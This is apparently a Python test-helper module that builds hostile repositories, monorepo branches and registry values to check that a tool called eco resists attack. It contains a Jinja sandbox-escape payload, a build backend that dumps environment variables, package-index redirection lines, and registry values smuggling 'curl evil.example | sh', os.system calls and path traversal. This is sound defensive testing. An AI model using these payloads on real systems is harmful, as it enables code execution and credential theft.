"""Hostile inputs for eco's tests: a project repository, monorepo branches and registry
values shaped by an attacker, each piece leaving proof when its code runs.

eco reads what other people write: a project's repository (any contributor or pull
request), the monorepo's side branches, the registry. A test builds the hostile shapes
with :class:`HostileProject` (and the monorepo pieces below), runs eco over them with
the canary token in the environment (:func:`canary_environment`), then asks

- :class:`Proofs` which pieces ran: each payload writes a file named after itself (with
  the token it could see) into one folder, so a piece that must not run is proven not
  to have run, and one that must (a build backend during ``eco build``) is proven to;
- :func:`canary_findings` where the token landed: it must be nowhere a project's code
  could write (the workspace, the remotes, their whole git history, the outside folder).

Add a piece as a method that writes files into :attr:`HostileProject.work` and uses
:meth:`Proofs.shell` or :meth:`Proofs.python` for its payload.
"""

from __future__ import annotations

import os
import shlex
import subprocess
from collections.abc import Iterable
from dataclasses import dataclass
from dataclasses import field
from pathlib import Path

import pytest

from tests.helpers import Ecosystem
from tests.helpers import git
from tests.helpers import write_files

# Shaped like a GitHub token so that any scrubbing keyed on the shape applies to it too.
CANARY = "ghp_ecoCanary0hostile0token0do0not0leak00"
CANARY_VARIABLES = ("GITHUB_TOKEN", "GH_TOKEN")
# Nothing listens there: a request that should never be made fails instead of leaving.
UNREACHABLE_API = "http://127.0.0.1:9"


def canary_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    """The canary token in every token variable, for the whole test."""
    for name in CANARY_VARIABLES:
        monkeypatch.setenv(name, CANARY)
    monkeypatch.setenv("ECO_GITHUB_API_URL", UNREACHABLE_API)


@dataclass(frozen=True)
class Proofs:
    """The folder every payload writes its proof into (``<name>``: the token it saw)."""

    folder: Path

    def __post_init__(self) -> None:
        self.folder.mkdir(parents=True, exist_ok=True)

    def path(self, name: str) -> Path:
        return self.folder / name

    def shell(self, name: str) -> str:
        """A shell command that leaves proof ``name``."""
        return f'echo "ran: $GITHUB_TOKEN" > {shlex.quote(str(self.path(name)))}'

    def python(self, name: str) -> str:
        """One Python expression that leaves proof ``name``."""
        return (
            f"open({str(self.path(name))!r}, 'w').write("
            "'ran: ' + __import__('os').environ.get('GITHUB_TOKEN', ''))"
        )

    def python_env(self, name: str) -> str:
        """Python statements that leave proof ``name`` holding the whole environment they
        saw (so a test finds any token variable in it, whatever its name)."""
        return (
            f"import os; open({str(self.path(name))!r}, 'w').write("
            "'ran: ' + repr(sorted(os.environ.items())))"
        )

    def jinja(self, name: str) -> str:
        """A Jinja expression that escapes an unsandboxed environment and leaves proof."""
        call = f"cycler.__init__.__globals__.os.system({self.shell(name)!r})"
        return "{{ " + call + " }}"

    def ran(self) -> list[str]:
        """The names of the pieces that ran."""
        return sorted(p.name for p in self.folder.iterdir())


@dataclass
class HostileProject:
    """A maintainer's clone of a project's remote, reshaped piece by piece, then pushed.

    ``outside`` is a folder beside the clone standing for everything outside the project:
    symbolic links point into it, and it must be byte for byte the same after eco ran.
    """

    remote: Path
    work: Path
    outside: Path
    proofs: Proofs
    pieces: list[str] = field(default_factory=list)

    @classmethod
    def clone(cls, remote: Path, tmp: Path, proofs: Proofs) -> HostileProject:
        work = tmp / "hostile" / remote.stem
        git("clone", "-q", str(remote), str(work), cwd=tmp)
        outside = tmp / "outside"
        write_files(outside, {"secret.txt": "outside the project\n", "docs/index.md": "# out\n"})
        return cls(remote, work, outside, proofs)

    # -- shapes at the paths eco writes ---------------------------------------------------

    def symlink_out(self, path: str, target: str = "secret.txt") -> None:
        """``path`` becomes a symbolic link to a file outside the clone."""
        self._remove(path)
        (self.work / path).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(self.outside / target, self.work / path)
        self.pieces.append(f"symlink {path} -> outside")

    def symlink_folder_out(self, folder: str) -> None:
        """The folder ``folder`` becomes a symbolic link to a folder outside the clone."""
        self._remove(folder)
        os.symlink(self.outside, self.work / folder, target_is_directory=True)
        self.pieces.append(f"symlink {folder}/ -> outside")

    def submodule_at(self, path: str) -> None:
        """A submodule (a gitlink entry, no .gitmodules needed) at ``path``."""
        self._remove(path)
        sha = git("rev-parse", "HEAD", cwd=self.work)
        git("update-index", "--add", "--cacheinfo", f"160000,{sha},{path}", cwd=self.work)
        (self.work / path).mkdir(parents=True)  # an uninitialised submodule: an empty folder
        self.pieces.append(f"submodule {path}")

    def folder_at(self, path: str) -> None:
        """A folder, holding the project's own file ``keep``, at ``path``."""
        self._remove(path)
        write_files(self.work, {f"{path}/keep": "the project's own\n"})
        self.pieces.append(f"folder {path}/")

    def crlf(self, path: str) -> None:
        """``path`` with Windows line endings."""
        file = self.work / path
        file.write_bytes(file.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))
        self.pieces.append(f"CRLF {path}")

    def invalid_utf8(self, path: str) -> None:
        """``path`` with bytes that are not UTF-8 in a comment line."""
        file = self.work / path
        file.write_bytes(file.read_bytes() + b"# \xff\xfe not \x80 UTF-8\n")
        self.pieces.append(f"invalid UTF-8 {path}")

    def huge(self, path: str, size: int = 8 * 1024 * 1024) -> None:
        """A large file (``size`` bytes of text lines) at ``path``."""
        line = b"x" * 1023 + b"\n"
        write_bytes(self.work / path, line * (size // len(line)))
        self.pieces.append(f"huge {path}")

    def write(self, path: str, content: str | bytes) -> None:
        """Any file, text or bytes, at ``path`` (for pieces that need no helper)."""
        if isinstance(content, bytes):
            write_bytes(self.work / path, content)
        else:
            write_files(self.work, {path: content})
        self.pieces.append(f"file {path}")

    def code_at(self, path: str, name: str) -> None:
        """Python at ``path`` (appended to the file if there) that leaves proof ``name``
        when it is imported or run: eco must only ever read it as text."""
        file = self.work / path
        before = file.read_text() if file.is_file() and not file.is_symlink() else ""
        write_files(self.work, {path: before + self.proofs.python(name) + "\n"})
        self.pieces.append(f"code {path}")

    def state(self, text: str) -> None:
        """``.eco.toml`` exactly as given (a hostile revision, invalid TOML, ...)."""
        write_files(self.work, {".eco.toml": text})
        self.pieces.append(".eco.toml: " + text.strip().replace("\n", " "))

    def revision(self, revision: str) -> None:
        """``.eco.toml`` naming ``revision`` (a ref name, a side-branch commit, "")."""
        self.state(f'template-revision = "{revision}"\nseeded = []\n')

    def push(self, message: str = "hostile") -> str:
        git("add", "-A", cwd=self.work)
        git("commit", "-q", "--allow-empty", "-m", message, cwd=self.work)
        git("push", "-q", "origin", "HEAD:main", cwd=self.work)
        return git("rev-parse", "HEAD", cwd=self.work)

    # -- where packages come from, and code a build runs -------------------------------

    def requirements_line(self, line: str, path: str = "requirements/tests.in") -> None:
        """``path`` lists a harmless requirement, then ``line`` (so it is line 2)."""
        write_files(self.work, {path: f"{HARMLESS_REQUIREMENT}\n{line}\n"})
        self.pieces.append(f"{path}: {line}")

    def in_tree_backend(self, name: str = "in-tree-backend") -> None:
        """``pyproject.toml`` builds through a backend kept in the project (``_build/``)
        that leaves proof ``name`` with the environment it saw, then builds with
        flit_core as before: running it is expected during a build, a token in it is not."""
        pyproject = self.work / "pyproject.toml"
        text = pyproject.read_text()
        assert 'build-backend = "flit_core.buildapi"' in text
        text = text.replace(
            'build-backend = "flit_core.buildapi"',
            'build-backend = "hostile_backend"\nbackend-path = ["_build"]',
        ).replace('include = ["tests/"', 'include = ["_build/", "tests/"')
        pyproject.write_text(text)
        write_files(
            self.work,
            {
                "_build/hostile_backend.py": (
                    '"""A build backend kept in the project: what a pull request can edit."""\n'
                    f"{self.proofs.python_env(name)}\n"
                    "from flit_core.buildapi import *  # noqa: F403\n"
                )
            },
        )
        self.pieces.append("in-tree build backend")

    def uv_settings(self, toml: str) -> None:
        """``toml`` (``[tool.uv]`` tables) appended to ``pyproject.toml``."""
        pyproject = self.work / "pyproject.toml"
        pyproject.write_text(pyproject.read_text() + "\n" + toml)
        self.pieces.append("pyproject.toml: " + toml.strip().splitlines()[0])

    def _remove(self, path: str) -> None:
        target = self.work / path
        if target.is_symlink() or target.is_file():
            target.unlink()
        elif target.is_dir():
            git("rm", "-r", "-q", "--cached", "--ignore-unmatch", path, cwd=self.work)
            subprocess.run(["rm", "-rf", str(target)], check=True)
        git("rm", "-q", "--cached", "--ignore-unmatch", path, cwd=self.work)


# -- requirements and packages -----------------------------------------------------------

HARMLESS_REQUIREMENT = "hostile-ok"


def payload_package(folder: Path, proofs: Proofs, name: str = "payload-package") -> Path:
    """A Python project at ``folder`` whose build backend (in the project, needing no
    download) leaves proof ``name`` with its environment, then fails: what a requirement
    naming a path or URL would make a resolver run."""
    write_files(
        folder,
        {
            "pyproject.toml": (
                '[project]\nname = "payload"\nversion = "1.0"\ndynamic = ["dependencies"]\n\n'
                '[build-system]\nrequires = []\nbuild-backend = "payload_backend"\n'
                'backend-path = ["."]\n'
            ),
            "payload_backend.py": (
                f"{proofs.python_env(name)}\n"
                "def __getattr__(hook):\n"
                "    raise RuntimeError('the payload ran: ' + hook)\n"
            ),
            "setup.py": f"{proofs.python_env(name)}\n",
        },
    )
    return folder


def hostile_requirement_lines(index: str, package: Path) -> dict[str, tuple[str, str]]:
    """Lines a project's ``.in`` file could use to choose where packages come from (or to
    run ``package``'s code), each with the option eco's refusal must name. ``index`` is a
    server that must never be asked."""
    url = package.as_uri()
    return {
        "extra-index-url": (f"--extra-index-url {index}", "--extra-index-url"),
        "index-url=": (f"--index-url={index}", "--index-url"),
        "-i": (f"-i {index}", "-i"),
        "find-links": (f"--find-links {index}", "--find-links"),
        "-f": (f"-f {package.parent}", "-f"),
        "trusted-host": ("--trusted-host 127.0.0.1", "--trusted-host"),
        "no-index": ("--no-index", "--no-index"),
        "-e": (f"-e {package}", "-e"),
        "editable": (f"--editable {url}", "--editable"),
        "direct reference": (f"payload @ {url}", "payload @ " + url),
        "bare URL": (url, url),
        "bare path": (str(package), str(package)),
        "relative path": ("./payload", "./payload"),
        "archive name": ("payload-1.0.tar.gz", "payload-1.0.tar.gz"),
        "per-requirement option": (
            "hostile-ok --config-settings=editable_mode=compat",
            "--config-settings",
        ),
    }


def tree_bytes(root: Path) -> dict[str, bytes]:
    """Every file under ``root`` with its bytes: compare before and after to prove that
    nothing outside a project was written."""
    return {
        str(path.relative_to(root)): path.read_bytes()
        for path in sorted(root.rglob("*"))
        if path.is_file() and not path.is_symlink()
    }


def write_bytes(path: Path, content: bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)


# -- the monorepo ------------------------------------------------------------------------


def side_branch_template(
    eco: Ecosystem, proofs: Proofs, template: str, name: str = "side-branch-template"
) -> str:
    """A commit on a never-merged branch of the monorepo whose ``template`` (under
    ``templates/skeleton/``) runs a payload when rendered unsandboxed; main is checked
    out again. Returns the commit."""
    git("checkout", "-q", "-b", "never-merged", cwd=eco.root)
    file = eco.root / "templates" / "skeleton" / template
    file.write_text(file.read_text() + proofs.jinja(name) + "\n")
    sha = eco.commit("a template that runs code")
    git("checkout", "-q", "main", cwd=eco.root)
    return sha


def template_payload(eco: Ecosystem, proofs: Proofs, template: str, name: str) -> str:
    """The same payload committed on the monorepo's main branch (the sandbox's case)."""
    file = eco.root / "templates" / "skeleton" / template
    file.write_text(file.read_text() + proofs.jinja(name) + "\n")
    return eco.commit("a template that runs code")


# -- the registry ------------------------------------------------------------------------

# Values a hostile registry edit could carry, each shaped after one attack of issue 17;
# the registry must refuse every one (key, TOML value).
HOSTILE_REGISTRY_VALUES: dict[str, tuple[str, str]] = {
    "docs_python with a newline": (
        "vars.docs_python",
        '"3.13\\"\\n  commands:\\n    - \\"curl evil.example | sh\\""',
    ),
    "chat_url adding YAML keys": (
        "vars.chat_url",
        '"https://chat.example\\n    about: x\\n  - name: evil\\n    url: https://evil.example"',
    ),
    "branch that is Python code": ("branch", '"main\\"+__import__(\\"os\\").system(\\"id\\")+\\""'),
    "changelog outside the project": ("changelog", '"../../outside.md"'),
    "absolute changelog": ("changelog", '"/tmp/outside.md"'),
    "readme in .git": ("readme", '".git/hooks/README.md"'),
    "non-http URL": ("vars.donate_url", '"javascript:alert(1)"'),
    "sync branch with a quote": ("ecosystem.sync-branch", '"eco/sync\'"'),
}


# -- where the token went ---------------------------------------------------------------


def canary_findings(*roots: Path) -> list[str]:
    """Every file under ``roots``, and every object of every git repository there, that
    holds the canary token (git objects are compressed, so they are read through git)."""
    found = []
    needle = CANARY.encode()
    for root in roots:
        if not root.exists():
            continue
        for path in _files(root):
            try:
                if needle in path.read_bytes():
                    found.append(str(path))
            except OSError:
                continue
        for repo in _repositories(root):
            history = subprocess.run(
                ["git", "log", "--all", "-p", "--format=%H%n%B"],
                cwd=repo,
                capture_output=True,
            ).stdout
            if needle in history:
                found.append(f"{repo} (git history)")
    return found


def _files(root: Path) -> Iterable[Path]:
    for folder, _, names in os.walk(root):
        for name in names:
            path = Path(folder) / name
            if not path.is_symlink():
                yield path


def _repositories(root: Path) -> Iterable[Path]:
    for folder, dirs, _ in os.walk(root):
        here = Path(folder)
        if (here / "HEAD").is_file() and (here / "objects").is_dir():
            yield here
            dirs[:] = []
